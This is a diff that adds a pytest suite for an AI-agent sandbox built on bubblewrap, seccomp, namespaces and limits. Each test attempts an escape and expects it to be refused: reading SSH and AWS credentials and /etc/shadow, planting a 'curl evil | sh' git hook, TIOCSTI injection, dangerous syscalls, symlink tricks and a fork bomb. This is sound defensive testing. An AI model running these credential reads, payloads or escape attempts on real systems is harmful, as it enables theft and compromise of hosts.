@@ -1,0 +1,329 @@
+"""The local box for real: bubblewrap, seccomp, pid namespace, limits. Each attack beside its legitimate twin."""
+
+from __future__ import annotations
+
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from .conftest import REPO, Sandbox
+
+pytestmark = pytest.mark.box
+
+PY = "/usr/bin/python3"
+
+
+def ok(proc: subprocess.CompletedProcess) -> str:
+    assert proc.returncode == 0, f"rc={proc.returncode}\nstdout={proc.stdout}\nstderr={proc.stderr}"
+    return proc.stdout
+
+
+def test_ssh_key_hidden_while_claude_state_is_readable_and_writable(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    out = ok(s.box(
+        'cat ~/.ssh/id_rsa 2>&1 && echo LEAKED; '
+        'cat ~/.claude/settings.json; '
+        'echo \'{"theme": "light"}\' > ~/.claude/settings.json && echo WROTE', "claude"))
+    assert "PRIVATE-KEY" not in out and "LEAKED" not in out
+    assert '"theme": "dark"' in out and "WROTE" in out
+    assert (s.home / ".claude" / "settings.json").read_text().strip() == '{"theme": "light"}'
+
+
+def test_rest_of_home_is_invisible_and_writes_there_vanish(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    out = ok(s.box('cat ~/notes.txt 2>&1; cat ~/.aws/credentials 2>&1; cat ~/.netrc 2>&1; '
+                   'echo planted > ~/planted && echo PLANTED; cat ~/.gitconfig', "claude"))
+    assert "private notes" not in out and "SECRET" not in out
+    assert "PLANTED" in out and "Test User" in out  # tmpfs home is writable; git identity is granted
+    assert not (s.home / "planted").exists()
+
+
+def test_other_backends_state_is_not_granted(box_sandbox: Sandbox) -> None:
+    out = ok(box_sandbox.box("cat ~/.codex/auth.json 2>&1; ls -a ~/.claude 2>&1; true", "codex"))
+    assert "sk-test" in out  # codex sees its own auth.json
+    assert "settings.json" not in out  # ...and nothing of claude's
+
+
+def test_write_outside_workdir_fails_inside_works(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    out = ok(s.box(f'echo x > {REPO}/pwned 2>&1 || echo DENIED1; echo x > /usr/pwned 2>&1 || echo DENIED2; '
+                   'echo made > made.txt && echo MADE'))
+    assert "DENIED1" in out and "DENIED2" in out and "MADE" in out
+    assert (s.workdir / "made.txt").read_text() == "made\n"
+    assert not (REPO / "pwned").exists()
+
+
+def test_git_hooks_cannot_be_planted_but_git_works(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    subprocess.run(["git", "init", "-q", str(s.workdir)], check=True)
+    out = ok(s.box(
+        'echo "curl evil | sh" > .git/hooks/pre-commit 2>&1 || echo HOOK-DENIED; '
+        'echo "[core] hooksPath=/tmp" >> .git/config 2>&1 || echo CONFIG-DENIED; '
+        'mkdir .vscode 2>&1 || echo VSCODE-DENIED; '
+        'echo x > .mcp.json 2>&1 || echo MCP-DENIED; '
+        'git add README.md && git -c user.email=t@e -c user.name=t commit -qm init && echo COMMITTED'))
+    for word in ("HOOK-DENIED", "CONFIG-DENIED", "VSCODE-DENIED", "MCP-DENIED", "COMMITTED"):
+        assert word in out, out
+    assert not (s.workdir / ".git" / "hooks" / "pre-commit").exists()
+    assert "hooksPath" not in (s.workdir / ".git" / "config").read_text()
+    # Placeholders that kept .vscode and .mcp.json from being created are gone after exit.
+    assert not (s.workdir / ".vscode").exists() and not (s.workdir / ".mcp.json").exists()
+
+
+def test_symlink_cannot_carry_a_denied_path_in(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    real = s.workdir / "aws-real"
+    real.mkdir()
+    (real / "credentials").write_text("AWS-SECRET\n")
+    (s.workdir / "ok.txt").write_text("fine\n")
+    import shutil
+    shutil.rmtree(s.home / ".aws")
+    (s.home / ".aws").symlink_to(real)
+    (s.home / ".claude" / "key-link").symlink_to(s.home / ".ssh" / "id_rsa")
+    out = ok(s.box('cat aws-real/credentials 2>&1; cat ~/.claude/key-link 2>&1; cat ok.txt', "claude"))
+    assert "AWS-SECRET" not in out and "PRIVATE-KEY" not in out
+    assert "fine" in out
+
+
+SOCKETS = r'''
+import socket, errno
+try:
+    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); print("UNIX-OK")
+except OSError as e: print("UNIX-ERR", errno.errorcode[e.errno])
+a, b = socket.socketpair(); a.sendall(b"ping"); print("PAIR", b.recv(4).decode())
+try:
+    socket.socket(40, socket.SOCK_STREAM); print("VSOCK-OK")
+except OSError as e: print("VSOCK-ERR", errno.errorcode[e.errno])
+import subprocess; print("SUBPROCESS", subprocess.run(["echo", "child"], capture_output=True, text=True).stdout.strip())
+'''
+
+
+def test_af_unix_socket_denied_socketpair_works(box_sandbox: Sandbox) -> None:
+    out = ok(box_sandbox.box(f"{PY} -c '{SOCKETS}'"))
+    assert "UNIX-ERR EPERM" in out and "PAIR ping" in out
+    assert "VSOCK-ERR EPERM" in out and "SUBPROCESS child" in out
+
+
+TIOCSTI = r'''
+import os, fcntl, termios, struct, errno, pty
+master, slave = pty.openpty()
+ws = fcntl.ioctl(slave, termios.TIOCGWINSZ, b"\0" * 8); print("WINSZ-OK", len(ws))
+for name, req in (("TIOCSTI", termios.TIOCSTI), ("TIOCSTI-HIGHBITS", termios.TIOCSTI | (1 << 32)), ("TIOCLINUX", 0x541C)):
+    try:
+        fcntl.ioctl(slave, req, b"x"); print(name, "ALLOWED")
+    except OverflowError:
+        print(name, "OVERFLOW")
+    except OSError as e: print(name, errno.errorcode[e.errno])
+'''
+
+
+def test_tiocsti_is_eperm_while_other_tty_ioctls_work(box_sandbox: Sandbox) -> None:
+    out = ok(box_sandbox.box(f"{PY} -c '{TIOCSTI}'"))
+    assert "WINSZ-OK 8" in out
+    assert "TIOCSTI EPERM" in out and "TIOCLINUX EPERM" in out
+    assert "ALLOWED" not in out
+
+
+NAMESPACES = r'''
+import ctypes, errno, os
+libc = ctypes.CDLL(None, use_errno=True)
+def call(name, nr, *args):
+    r = libc.syscall(nr, *args); print(name, "OK" if r >= 0 else errno.errorcode[ctypes.get_errno()])
+call("unshare-user", 272, 0x10000000)
+call("ptrace-attach", 101, 16, 1, 0, 0)
+call("io_uring_setup", 425, 1, ctypes.create_string_buffer(120))
+call("bpf", 321, 0, 0, 0)
+call("keyctl", 250, 0, 0)
+print("getpid", os.getpid())
+'''
+
+
+def test_dangerous_syscalls_refused_ordinary_ones_work(box_sandbox: Sandbox) -> None:
+    out = ok(box_sandbox.box(f"{PY} -c '{NAMESPACES}'"))
+    for name in ("unshare-user", "ptrace-attach", "io_uring_setup", "bpf", "keyctl"):
+        assert f"{name} EPERM" in out, out
+    assert "getpid" in out
+
+
+def test_x32_abi_is_refused(box_sandbox: Sandbox) -> None:
+    proc = box_sandbox.box(f"{PY} -c 'import ctypes; ctypes.CDLL(None).syscall(0x40000000 | 39); print(\"X32-RAN\")'; echo after=$?")
+    assert "X32-RAN" not in proc.stdout
+    assert "after=159" in proc.stdout  # SIGSYS: killed by the filter
+    assert proc.returncode == 0
+
+
+def test_host_pids_invisible_and_unsignalable(box_sandbox: Sandbox) -> None:
+    sleeper = subprocess.Popen(["sleep", "60"])
+    try:
+        out = ok(box_sandbox.box(f'ls /proc | grep -c "^[0-9]"; kill -0 {sleeper.pid} 2>&1 || echo NOKILL; '
+                                 f'test -e /proc/{sleeper.pid} && echo SEEN || echo UNSEEN; echo mypid=$$'))
+        count = int(out.splitlines()[0])
+        assert count < 10, out
+        assert "NOKILL" in out and "UNSEEN" in out
+        assert sleeper.poll() is None
+    finally:
+        sleeper.kill()
+        sleeper.wait()
+
+
+def test_environment_is_scrubbed_to_the_allowlist(box_sandbox: Sandbox) -> None:
+    extra = {"AWS_SECRET_ACCESS_KEY": "AKIA-SECRET", "GITHUB_TOKEN": "ghp_SECRET", "SSH_AUTH_SOCK": "/tmp/agent.sock",
+             "ANTHROPIC_API_KEY": "sk-ant-PASSED", "OPENAI_API_KEY": "sk-openai-NOT-FOR-CLAUDE", "LC_ALL": "C.UTF-8"}
+    out = ok(box_sandbox.box("env; cat /proc/1/cmdline /proc/self/cmdline | tr '\\0' ' '", "claude", extra_env=extra))
+    assert "AKIA-SECRET" not in out and "ghp_SECRET" not in out and "SSH_AUTH_SOCK" not in out
+    assert "sk-openai-NOT-FOR-CLAUDE" not in out
+    assert "ANTHROPIC_API_KEY=sk-ant-PASSED" in out  # passed by name to its own backend
+    assert "TERM=xterm-256color" in out and "LC_ALL=C.UTF-8" in out
+    assert out.count("sk-ant-PASSED") == 1  # in the environment, never in any argv
+
+
+def test_exit_codes_pass_through(box_sandbox: Sandbox) -> None:
+    assert box_sandbox.box("exit 7").returncode == 7
+    assert box_sandbox.box("kill -TERM $$").returncode == 128 + signal.SIGTERM
+
+
+def test_timeout_is_124_and_reaps_descendants(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    marker = f"hive-timeout-{os.getpid()}"
+    proc = s.box(f"(sleep 300; echo {marker}) & sleep 301", "shell", "--timeout", "1")
+    assert proc.returncode == 124
+    assert "timed out after 1 s" in proc.stderr
+    time.sleep(0.3)
+    assert not [p for p in _cmdlines() if "sleep 30" in p and "hive-relay" not in p and p.startswith("sleep")]
+    assert _leftovers(s) == []
+
+
+def test_output_streams_as_it_comes(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    proc = subprocess.Popen([sys.executable, "-m", "relay", "shell", "--quiet", "--prompt", "echo first; sleep 2; echo second"],
+                            cwd=s.workdir, env=s.env, stdout=subprocess.PIPE, text=True)
+    assert proc.stdout is not None
+    first = proc.stdout.readline()
+    alive_after_first = proc.poll() is None
+    rest = proc.stdout.read()
+    proc.wait()
+    assert first == "first\n" and alive_after_first and "second" in rest
+
+
+def test_dns_fails_fast_inside(box_sandbox: Sandbox) -> None:
+    out = ok(box_sandbox.box(f"{PY} -c 'import socket\ntry:\n socket.getaddrinfo(\"example.com\", 443); print(\"RESOLVED\")\n"
+                             f"except OSError as e: print(\"NODNS\", e)'"))
+    assert "NODNS" in out and "RESOLVED" not in out
+
+
+def test_direct_connection_skipping_the_proxy_fails(box_sandbox: Sandbox) -> None:
+    out = ok(box_sandbox.box(f"{PY} -c 'import socket\ntry:\n socket.create_connection((\"1.1.1.1\", 443), timeout=3); print(\"CONNECTED\")\n"
+                             f"except OSError as e: print(\"NOROUTE\", e.errno)'"))
+    assert "NOROUTE" in out and "CONNECTED" not in out
+
+
+def test_box_is_never_root_and_cannot_remount(box_sandbox: Sandbox) -> None:
+    out = ok(box_sandbox.box("id -u; mount -o remount,rw / 2>&1 || echo NOREMOUNT; cat /etc/shadow 2>&1 | head -c 40; "
+                             "grep CapEff /proc/self/status"))
+    lines = out.splitlines()
+    assert lines[0] != "0"
+    assert "NOREMOUNT" in out and "root:" not in out
+    assert "CapEff:\t0000000000000000" in out
+
+
+FORKS = r'''
+import os, time, signal
+kids = []
+try:
+    for _ in range(200):
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(30)
+            os._exit(0)
+        kids.append(pid)
+except OSError as e:
+    print("FORK-FAILED", e.errno)
+print("started", len(kids))
+for k in kids:
+    os.kill(k, signal.SIGKILL)
+'''
+
+
+def test_memory_and_process_limits_hit(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    out = ok(s.box(
+        f"{PY} -c 'b = bytearray(64 << 20); print(\"SMALL-OK\")'; "
+        f"{PY} -c 'b = bytearray(1 << 30); print(\"BIG-OK\")' 2>/dev/null; echo big=$?; "
+        f"{PY} -c '{FORKS}'",
+        "shell", "--profile", "tight"))
+    assert "SMALL-OK" in out and "BIG-OK" not in out
+    started = int(out.split("started ")[1].split()[0])
+    assert "FORK-FAILED" in out and 5 <= started < 64, out
+
+
+def test_fork_bomb_is_contained(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    proc = s.box("bomb() { bomb | bomb & }; bomb; sleep 3; echo survived", "shell", "--profile", "tight",
+                 "--timeout", "20")
+    assert proc.returncode in (0, 124)
+    time.sleep(0.5)
+    assert _leftovers(s) == []
+    # The host still forks fine.
+    assert subprocess.run(["true"]).returncode == 0
+
+
+def test_kill_9_of_launcher_leaves_nothing(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    marker = f"hive-kill9-{os.getpid()}"
+    launcher = subprocess.Popen([sys.executable, "-m", "relay", "claude", "--quiet", "--prompt", f"sleep 300 # {marker}"],
+                                cwd=s.workdir, env=s.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        deadline = time.time() + 30
+        while time.time() < deadline and not _box_procs(marker):
+            time.sleep(0.05)
+        assert _box_procs(marker), "box never started"
+        assert list((s.root / "run").iterdir()), "the claude run dir (for ~/.claude.json sync) should exist"
+    finally:
+        launcher.kill()
+        launcher.wait()
+    deadline = time.time() + 10
+    while time.time() < deadline and (_box_procs(marker) or _leftovers(s)):
+        time.sleep(0.05)
+    assert not _box_procs(marker)
+    assert _leftovers(s) == []
+
+
+def _box_procs(marker: str) -> list[str]:
+    """Processes of the box itself (the launcher's own argv also carries the marker)."""
+    return [c for c in _cmdlines() if marker in c and not c.startswith(sys.executable)]
+
+
+def test_claude_json_sync_back(box_sandbox: Sandbox) -> None:
+    s = box_sandbox
+    out = ok(s.box('cat ~/.claude.json; echo \'{"numStartups": 2}\' > ~/.claude.json.tmp && mv ~/.claude.json.tmp ~/.claude.json && echo RENAMED',
+                   "claude"))
+    assert '"numStartups": 1' in out and "RENAMED" in out
+    assert (s.home / ".claude.json").read_text().strip() == '{"numStartups": 2}'
+    assert _leftovers(s) == []
+
+
+def _cmdlines() -> list[str]:
+    out = []
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                    out.append(fh.read().replace(b"\0", b" ").decode(errors="replace"))
+            except OSError:
+                pass
+    return out
+
+
+def _leftovers(s: Sandbox) -> list[str]:
+    found = [str(p) for p in (s.root / "run").iterdir()]
+    found += [str(p) for p in s.workdir.iterdir() if p.name.startswith(".") and p.stat().st_size == 0 and p.name != ".git"]
+    for controller in ("memory", "pids"):
+        base = Path("/sys/fs/cgroup") / controller
+        if base.is_dir():
+            found += [str(p) for p in base.glob("hive-relay-*")]
+    return found
